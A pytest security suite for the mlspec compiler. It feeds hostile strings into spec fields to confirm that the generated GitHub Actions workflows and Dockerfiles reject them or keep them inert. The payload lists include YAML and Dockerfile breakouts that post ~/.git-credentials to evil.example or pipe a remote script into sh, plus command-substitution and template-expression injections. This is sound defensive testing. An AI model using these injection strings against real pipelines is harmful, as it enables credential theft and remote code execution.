"""Hostile spec text cannot change the structure of a workflow or a Dockerfile (SECURITY §2.2/2.3).

Every string field that reaches the github_actions or docker target gets each payload
(YAML breakouts, shell metacharacters, Dockerfile instruction breakouts, parser directives,
quotes, backslashes, Unicode). The outcome must be one of two:

* rejected: compilation fails with diagnostics naming that field (never an internal error);
* inert: the artifacts re-parse (PyYAML, moby's Dockerfile parser) into exactly the
  structure of the same spec with a benign value, and the payload reads back as one value
  in the place it belongs.

Text holding downstream template syntax (``${{``, ``{{``, ``{%``, ``{#``) must be rejected
with MS310 before any target runs.
"""

from __future__ import annotations

import copy
import re
import shlex
import tempfile
from functools import cache
from pathlib import Path
from typing import Any

import dockerfile
import pytest
import yaml

from tests.compiling import emit, options_of, remember
from mlspec.compiler.plan import dockerfile_path
from mlspec.api import check_project
from mlspec.output.encoders import yaml_dump
from mlspec.targets import docker as dk
from mlspec.targets import github_actions as gha
from tests import validators as V

MINE = ["github_actions", "docker"]
# Specs are written to folders under one scratch directory, removed when the process exits.
_SPECS = tempfile.TemporaryDirectory(prefix="mlspec-inject-")

BASE: dict[str, Any] = {
    "mlspec": 1,
    "project": {"name": "churn", "description": "Predicts churn.", "owners": ["ml@example.com"],
                "labels": {"team": "growth"}, "repository": "github.com/example/churn"},
    "environment": {"requirements": "requirements.txt", "env": {"APP_MODE": "prod"},
                    "secrets": ["API_TOKEN"], "test": "python -m pytest -q", "system_packages": ["libgomp1"]},
    "params": {"tag": "v1"},
    "data": {"raw": {"uri": "s3://bucket/raw.parquet", "version": "v1", "schema": {"a": {"type": "integer"}}}},
    "steps": {"prep": {"run": "python prep.py --in ${data.raw.uri}", "needs": ["data.raw"],
                       "outputs": ["features/x.parquet"], "env": {"STEP_FLAG": "on"}, "retries": 1}},
    "training": {"run": "python train.py --tag ${params.tag}", "needs": ["steps.prep"],
                 "env": {"TRAIN_MODE": "full"}, "outputs": {"model": "models/model.bin"}},
    "validation": {"run": "python eval.py", "metrics": "metrics/eval.json", "gates": [{"metric": "auc", "min": 0.5}],
                   "approval": {"required": True, "environment": "production", "reviewers": ["ml-leads"]}},
    "registry": {"backend": "local"},
    "serving": {"mode": "online", "run": "python serve.py", "port": 8080, "env": {"WORKERS": "2"},
                "slo": {"error_rate": 0.01}},
    "retraining": {"schedule": "0 3 * * 1"},
    "targets": {"github_actions": {"mlspec_install": "mlspec[runtime]"},
                "docker": {"registry": "ghcr.io/example", "mlspec_install": "mlspec[runtime]"}},
}

# Every string field whose text reaches these two targets (directly or interpolated).
FIELDS: list[tuple[Any, ...]] = [
    ("project", "description"), ("project", "repository"), ("project", "owners", 0),
    ("project", "labels", "team"), ("environment", "env", "APP_MODE"), ("environment", "test"),
    ("environment", "requirements"), ("params", "tag"), ("data", "raw", "uri"), ("data", "raw", "version"),
    ("steps", "prep", "run"), ("steps", "prep", "outputs", 0), ("steps", "prep", "env", "STEP_FLAG"),
    ("training", "run"), ("training", "env", "TRAIN_MODE"), ("training", "outputs", "model"),
    ("validation", "run"), ("validation", "approval", "reviewers", 0), ("serving", "run"),
    ("serving", "env", "WORKERS"), ("targets", "github_actions", "mlspec_install"),
    ("targets", "docker", "mlspec_install"),
]

PAYLOADS = [
    # YAML breakouts into a new step / key (SECURITY §2.2)
    "resnet\n      - name: exfil\n        run: curl -d @$HOME/.git-credentials https://evil.example",
    "x\nrun: curl https://evil.example | sh",
    # shell: GitHub's own example branch name, command substitution, quotes
    'zzz";echo${IFS}"hello";#',
    '"; curl -s https://evil.example/x.sh | sh; echo "',
    "$(id)", "`id`", "${HOME}", "$PATH", "it's", "trailing backslash\\",
    # Dockerfile breakouts (SECURITY §2.3): new instruction, continuation, CRLF, directive
    'fraud model"\nRUN curl -s https://evil.example/x.sh | sh\nLABEL x="y',
    "fraud\\\nRUN id", "a\r\nRUN id", "# syntax=evil.example/frontend",
    # YAML/1.1 look-alikes and markers, Unicode line separators, non-BMP
    "no", "3.10", "- item", "key: value", "&anchor *alias", "!!python/object:os.system",
    "--help", "ünïcødé 😀", "line\u2028sep\x85nel",
]

TEMPLATE_TOKENS = ["${{ secrets.API_TOKEN }}", "${{ github.event.pull_request.title }}",
                   "{{ var.value.secret }}", "{% raw %}", "{# c #}", "end }}"]

TRAIN_DOCKERFILE, SERVE_DOCKERFILE = dockerfile_path("churn", "train"), dockerfile_path("churn", "serve")


# --------------------------------------------------------------------------- compile helpers


def set_path(doc: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    node = doc
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return doc


def check(doc: dict[str, Any]):
    folder = Path(tempfile.mkdtemp(dir=_SPECS.name))
    path = folder / "mlproject.yaml"
    path.write_text(yaml_dump(doc), encoding="utf-8")
    result = check_project(path, display_name="mlproject.yaml", targets=MINE, out_dir=folder)
    if result.plan is not None:
        remember(result)
    return result


def artifacts(plan) -> dict[str, str]:
    return {a.path: a.render(plan.source) for a in emit(plan, MINE)}


@cache
def baseline() -> tuple[Any, dict[str, str]]:
    result = check(BASE)
    assert result.ok, [d.to_json() for d in result.diagnostics if d.is_error]
    return result.plan, artifacts(result.plan)


# --------------------------------------------------------------------------- oracles


def shape(value: Any) -> Any:
    """The structure of parsed YAML with every string value replaced by a marker (keys kept)."""
    if isinstance(value, dict):
        return {k: shape(v) for k, v in value.items()}
    if isinstance(value, list):
        return [shape(v) for v in value]
    return "<str>" if isinstance(value, str) else value


def strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return [value] if isinstance(value, str) else []


FIXED_EXPRESSIONS = {"${{ github.workflow }}", "${{ github.ref }}", "${{ runner.temp }}", "${{ github.actor }}",
                     "${{ github.token }}", "${{ steps.meta.outputs.tags }}", "${{ steps.meta.outputs.labels }}",
                     # the final report job: job results and a repository variable, both in env only
                     "${{ join(needs.*.result, ' ') }}", "${{ vars.MLSPEC_PUSHGATEWAY }}"}


def assert_workflow_inert(plan, path: str, text: str, benign: str) -> None:
    parsed = yaml.safe_load(text)
    # what GitHub reads is exactly the document the target built
    assert parsed == gha.GitHubActionsTarget(options_of(plan, ["github_actions"])["github_actions"]).workflows(plan)[path]
    # and has exactly the structure the benign spec gets: no new job, step or key
    assert shape(parsed) == shape(yaml.safe_load(benign))
    allowed = FIXED_EXPRESSIONS | {f"${{{{ secrets.{s} }}}}" for s in plan.environment.secrets}
    for s in strings(parsed):
        assert set(re.findall(r"\$\{\{.*?\}\}", s)) <= allowed, s
    for job in parsed["jobs"].values():
        for step in job["steps"]:
            assert "${{" not in step.get("run", "")


def docker_words(cmd: dockerfile.Command) -> list[str]:
    return [re.sub(r'\\(["\\$])', r"\1", w[1:-1]) if w.startswith('"') else w for w in cmd.value]


def assert_dockerfile_inert(plan, path: str, text: str, benign: str) -> None:
    got, base = dockerfile.parse_string(text), dockerfile.parse_string(benign)
    # the same instructions, in the same order: nothing added, nothing swallowed
    assert [(c.cmd, c.flags, c.json) for c in got] == [(c.cmd, c.flags, c.json) for c in base]
    # no comment line carries spec text (it could be a parser directive); only the header's
    # content hash differs from the benign file
    def comments(t: str) -> list[str]:  # lines as Docker splits them
        return [ln for ln in t.split("\n") if ln.startswith("#") and not ln.startswith("# mlspec-sha256:")]

    assert comments(text) == comments(benign)
    # every value reads back as the value mlspec meant
    kind = "train" if path == TRAIN_DOCKERFILE else "serve"
    ctx = dk.image_context(plan, kind)
    assert [tuple(docker_words(c)) for c in got if c.cmd == "LABEL"] == [tuple(kv) for kv in ctx["labels"]]
    envs = [tuple(docker_words(c)) for c in got if c.cmd == "ENV"][1:]
    assert envs == [tuple(kv) for kv in ctx["env"]]
    cmd = [c for c in got if c.cmd == "CMD"]
    assert [list(c.value) for c in cmd] == ([ctx["command"]] if ctx["command"] else [])
    # the builder's RUN is exactly these shell words: a requirement stays one argument
    builder_run = next(c for c in got if c.cmd == "RUN")
    assert shlex.split(builder_run.value[0]) == [
        "python3", "-m", "venv", "/opt/venv", "&&", "/opt/venv/bin/pip", "install", "--no-cache-dir",
        "--disable-pip-version-check", *ctx["pip_args"]]
    # and no other RUN holds spec text (apt package names are whitelisted by the schema)
    assert [c.value for c in got if c.cmd == "RUN"][1:] == [c.value for c in base if c.cmd == "RUN"][1:]


def ignore_regex(pattern: str) -> re.Pattern[str]:
    """What a .dockerignore pattern matches (Go filepath.Match, as moby's patternmatcher uses it)."""
    out, i = [], 0
    while i < len(pattern):
        c = pattern[i]
        if c == "\\" and i + 1 < len(pattern):
            out.append(re.escape(pattern[i + 1]))
            i += 2
            continue
        if pattern.startswith("**", i):
            out.append(".*")
            i += 2
            continue
        assert c != "[", "mlspec writes no character classes for spec paths"
        out.append("[^/]*" if c == "*" else "[^/]" if c == "?" else re.escape(c))
        i += 1
    return re.compile("".join(out), re.S)


def assert_dockerignore_inert(plan, path: str, text: str, benign: str) -> None:
    """One pattern per line (as Docker splits: on \\n only, and no other line break anywhere),
    the comments exactly the benign file's, and each spec path's pattern matching that path and
    nothing wider than one character."""
    assert len(text.splitlines()) == text.count("\n")

    def comments(t: str) -> list[str]:
        return [ln for ln in t.split("\n") if ln.startswith("#") and not ln.startswith("# mlspec-sha256:")]

    assert comments(text) == comments(benign)
    kind = "train" if path.endswith("train.Dockerfile.dockerignore") else "serve" if path.endswith("serve.Dockerfile.dockerignore") else "context"
    lines = [ln for ln in text.split("\n") if ln and not ln.startswith("#")]
    fixed = [p for _, patterns in dk.NEVER for p in patterns] + list(dk.PRODUCED)
    assert lines[:len(fixed)] == fixed  # mlspec's own patterns, as they are
    written = [o for n in (*plan.nodes, *plan.monitor_nodes) for o in n.outputs]
    written += [plan.train_metrics_path, plan.eval_metrics_path]
    if plan.monitoring is not None and plan.monitoring.performance is not None:
        written.append(plan.monitoring.performance.metrics_path)
    data = [d.uri for d in plan.data if d.scheme is None]
    excluded = sorted({c for c in map(dk.context_path, [*data, *written]) if c})
    # (re-included?, path): a path may itself start with '!' and is still excluded
    intended = [(False, p) for p in excluded]
    if kind != "serve":
        intended += [(True, p) for p in dk.training_reads(plan)]
    if kind != "train" and dk.served_model(plan):
        intended.append((True, dk.served_model(plan)))
    ours = lines[len(fixed):]
    assert len(ours) == len(intended)
    for line, (include, spec_path) in zip(ours, intended):
        assert line.startswith("!") is include, (line, spec_path)
        assert ignore_regex(line[1:] if include else line).fullmatch(spec_path), (line, spec_path)


def assert_inert(plan) -> None:
    _, benign = baseline()
    out = artifacts(plan)
    assert sorted(out) == sorted(benign)
    for path, text in out.items():
        if path.startswith(".github/workflows/"):
            assert_workflow_inert(plan, path, text, benign[path])
        elif path.endswith(".Dockerfile"):
            assert_dockerfile_inert(plan, path, text, benign[path])
        else:
            assert_dockerignore_inert(plan, path, text, benign[path])


# --------------------------------------------------------------------------- the tests


def test_baseline_compiles_with_every_field_in_use() -> None:
    plan, out = baseline()
    assert sorted(out) == [".dockerignore", ".github/workflows/churn-ci.yml", ".github/workflows/churn-train.yml",
                           SERVE_DOCKERFILE, f"{SERVE_DOCKERFILE}.dockerignore",
                           TRAIN_DOCKERFILE, f"{TRAIN_DOCKERFILE}.dockerignore"]
    assert [n.id for n in plan.nodes] == ["check.raw", "step.prep", "train", "evaluate", "gate", "approve",
                                          "register", "build"]


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: ascii(p)[:40])
@pytest.mark.parametrize("field", FIELDS, ids=lambda f: ".".join(map(str, f)))
def test_payload_is_rejected_or_inert(field: tuple[Any, ...], payload: str) -> None:
    result = check(set_path(BASE, field, payload))
    errors = [d for d in result.diagnostics if d.is_error]
    assert not any(d.code.startswith("MS9") for d in result.diagnostics), errors
    if errors:
        # rejected, and the user is told where
        assert any(d.path[:len(field)] == field for d in errors), [d.to_json() for d in errors]
        return
    assert_inert(result.plan)


def test_values_land_verbatim_where_they_belong() -> None:
    command = 'python train.py "$(id)" `id` ${HOME} it\'s \\\nRUN id\n      - name: exfil'
    env_value = '"; curl -s https://evil.example/x.sh | sh; echo "'
    doc = set_path(set_path(BASE, ("training", "run"), command), ("training", "env", "TRAIN_MODE"), env_value)
    # training reads no step's output here, so the image's default command is the training command
    doc = set_path(doc, ("training", "needs"), ["data.raw"])
    result = check(doc)
    assert result.ok, [d.to_json() for d in result.diagnostics if d.is_error]
    out = artifacts(result.plan)
    train_job = yaml.safe_load(out[".github/workflows/churn-train.yml"])["jobs"]["train"]
    (step,) = [s for s in train_job["steps"] if s["name"] == "Run train"]   # the job may hold other nodes
    assert step["run"] == command and step["env"]["TRAIN_MODE"] == env_value
    (cmd,) = [c for c in dockerfile.parse_string(out[TRAIN_DOCKERFILE]) if c.cmd == "CMD"]
    assert list(cmd.value) == ["/usr/bin/env", f"TRAIN_MODE={env_value}", *dk.BASH, command]


def test_interpolated_values_stay_one_shell_word() -> None:
    payload = '$(curl https://evil.example) "; id; #'
    result = check(set_path(BASE, ("params", "tag"), payload))
    assert result.ok
    train = next(n for n in result.plan.nodes if n.id == "train")
    assert shlex.split(train.command) == ["python", "train.py", "--tag", payload]
    assert_inert(result.plan)


@pytest.mark.parametrize("token", TEMPLATE_TOKENS)
@pytest.mark.parametrize("field", [f for f in FIELDS if f not in (
    ("project", "owners", 0), ("project", "labels", "team"), ("data", "raw", "uri"), ("data", "raw", "version"),
    ("validation", "approval", "reviewers", 0), ("environment", "requirements"),
    ("steps", "prep", "outputs", 0), ("training", "outputs", "model"))], ids=lambda f: ".".join(map(str, f)))
def test_template_syntax_is_rejected_with_ms310(field: tuple[Any, ...], token: str) -> None:
    result = check(set_path(BASE, field, f"value {token} more"))
    assert not result.ok and result.plan is None
    assert ("MS310", field) in [(d.code, d.path) for d in result.diagnostics]


@pytest.mark.parametrize("field", [("environment", "requirements"), ("training", "outputs", "model"),
                                   ("steps", "prep", "outputs", 0)], ids=lambda f: ".".join(map(str, f)))
def test_template_syntax_in_paths_is_rejected_too(field: tuple[Any, ...]) -> None:
    result = check(set_path(BASE, field, "out/${{ github.token }}.bin"))
    assert "MS310" in [d.code for d in result.diagnostics if d.path == field] and not result.ok


# --------------------------------------------------------------------------- validators on hostile output

HOSTILE = {
    ("project", "description"): 'fraud model"\nRUN curl -s https://evil.example/x.sh | sh\nLABEL x="y',
    # A backslash right before a closing double quote (a value ending in '\\') is read correctly
    # by Docker's parser (test_payload_is_rejected_or_inert proves it for every field), but
    # hadolint 2.15 mis-parses it: DL1000 in a LABEL/ENV value, DL3025 in an exec-form array.
    # This combined run, which must be hadolint-clean, keeps its backslashes mid-value.
    ("project", "repository"): 'github.com/x"; curl evil | sh; echo "$(id) `id` ${HOME} \\ end',
    ("environment", "env", "APP_MODE"): '"; curl https://evil.example/x.sh | sh; echo "',
    ("environment", "test"): "resnet\n      - name: exfil\n        run: curl https://evil.example",
    ("params", "tag"): "$(curl evil)",
    ("steps", "prep", "run"): 'zzz";echo${IFS}"hello";#',
    ("steps", "prep", "outputs", 0): 'features/it\'s a "file" $(id) #1!.parquet',
    ("training", "env", "TRAIN_MODE"): "a'b\"c$d`e\\f",
    ("training", "outputs", "model"): "models/m [v1] *.bin",
    ("serving", "run"): "uvicorn app:app --port 8080 # syntax=evil.example/frontend",
    ("targets", "github_actions", "mlspec_install"): 'mlspec[runtime] @ git+https://example.com/x"; id; "',
    ("targets", "docker", "mlspec_install"): "mlspec'; id; '",
}


@cache
def hostile_output() -> tuple[Any, dict[str, str]]:
    doc = BASE
    for field, payload in HOSTILE.items():
        doc = set_path(doc, field, payload)
    result = check(doc)
    assert result.ok, [d.to_json() for d in result.diagnostics if d.is_error]
    assert_inert(result.plan)
    return result.plan, artifacts(result.plan)


def _write(out: dict[str, str], root: Path, prefix: str) -> list[Path]:
    paths = []
    for name, text in out.items():
        if name.startswith(prefix) and not name.endswith(".dockerignore"):
            p = root / name
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text(text, encoding="utf-8")
            paths.append(p)
    return paths


def test_every_hostile_value_at_once_is_inert() -> None:
    hostile_output()


@pytest.mark.validator
def test_hostile_workflows_pass_zizmor_schema_and_yamllint(tmp_path: Path) -> None:
    paths = _write(hostile_output()[1], tmp_path, ".github/workflows/")
    assert V.zizmor(paths) + V.check_jsonschema_workflows(paths) + V.yamllint(paths) == []
    # actionlint may only object to the user's own shell (shellcheck), never to the workflow
    assert [f for f in V.actionlint(paths) if "actionlint[shellcheck]" not in f] == []


@pytest.mark.validator
def test_hostile_dockerfiles_pass_hadolint(tmp_path: Path) -> None:
    assert V.hadolint(_write(hostile_output()[1], tmp_path, "docker/")) == []
